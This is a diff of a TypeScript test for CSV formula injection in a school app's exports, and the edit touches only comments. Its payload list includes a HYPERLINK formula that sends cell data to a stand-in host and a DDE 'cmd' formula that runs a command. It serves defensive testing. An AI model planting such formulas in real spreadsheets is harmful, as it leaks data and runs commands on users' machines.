@@ -13,7 +13,7 @@ import { makeSchool, makeYear } from '#tests/factories/school-factory.server.ts'
 import { makeAdmin, makeCounselor } from '#tests/factories/user-factory.server.ts';
 import { previewed, studentsOf } from '#tests/support/csv-import.ts';
 
-/** What spreadsheets run, or would without what stands before it. */
+/** Texts that spreadsheets run as formulas, some of them with an escape prefix. */
 const FORMULAS = [
   `=HYPERLINK("https://x.example.org?"&A1,"Ada")`,
   `=cmd|' /C calc'!A0`,
@@ -30,7 +30,7 @@ const FORMULAS = [
   ';=1+1',
   ',=1+1',
 ] as const;
-/** How a cell begins that a spreadsheet runs: as LibreOffice, Excel and Sheets read it, whatever the product's own list says. */
+/** How cells begin that LibreOffice, Excel, or Google Sheets run. Doesn't use the product's own list. */
 const LIVE = /^[\t\r\n ]*[=+\-@＝＋－＠]/u;
 const EXAMPLES = 8;
 const STUDENTS = FORMULAS.length;
@@ -45,7 +45,7 @@ interface Scene {
   readonly yearId: string;
 }
 
-/** R15: texts that spreadsheets take for formulas in every field that is exported, by every export; and what the importers make of them. */
+/** R15: puts formulas in every exported field, runs every export, and imports the results again. */
 export async function formulasTrial(report: Report, stage: Stage): Promise<void> {
   await withResources(async (keep) => {
     const databaseUrl = await stage.makeDatabase();
@@ -156,7 +156,6 @@ async function commandFiles({ databaseUrl, app, ...ids }: Scene): Promise<Export
   return files;
 }
 
-/** The students of one designation's export, read by the import, against what is stored. */
 async function changedStudents({ app, designationId }: Scene, files: readonly Exported[]): Promise<string[]> {
   const file = files.find(({ name }) => name === `designations/download/${designationId}`);
   const stored = await app.rows<Record<string, string>>(
